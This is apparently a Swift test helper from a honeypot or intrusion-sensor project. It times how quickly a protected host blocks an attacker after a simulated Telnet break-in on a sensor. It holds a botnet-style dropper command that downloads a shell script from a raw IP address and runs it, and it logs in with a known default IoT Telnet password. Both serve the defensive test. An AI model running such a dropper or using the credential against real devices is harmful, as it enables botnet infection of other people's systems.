import TestHosts

/// How long an attack goes on elsewhere once a sensor has seen it.
package enum LoopLatency {
    /// What a bot types when it is in: fetch, make executable, run. One line, so that it is the attack's last event.
    package static let dropper =
        "cd /tmp; wget http://45.66.77.88/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh"

    /// Attacks the sensor's Telnet from an address while a probe from there reaches the protected host.
    ///
    /// - Returns: from the moment before the attack's last line is sent to the first packet that is dropped.
    package static func measure(_ world: LoopWorld, from source: String) async throws -> Duration {
        let probe = try await Probe(from: source, in: world.network)
        let visit = try await world.network.attacker.run {
            try LoopWait.until("the probe arrives") { probe.record.receivedCount > 20 }
            let visit = try TelnetVisit(from: source)
            try visit.logIn(password: "vizxv")
            return visit
        }
        let start = try await world.network.attacker.run {
            let start = ContinuousClock.now
            visit.send(dropper)
            return start
        }
        let end = try await world.network.attacker.run {
            try LoopWait.until("packets of \(source) are dropped") { probe.record.firstLost() != nil }
            return probe.record.firstLost() ?? start
        }
        try await probe.stop()
        return end - start
    }
}

extension [Duration] {
    package var median: Duration { isEmpty ? .zero : sorted()[count / 2] }
}
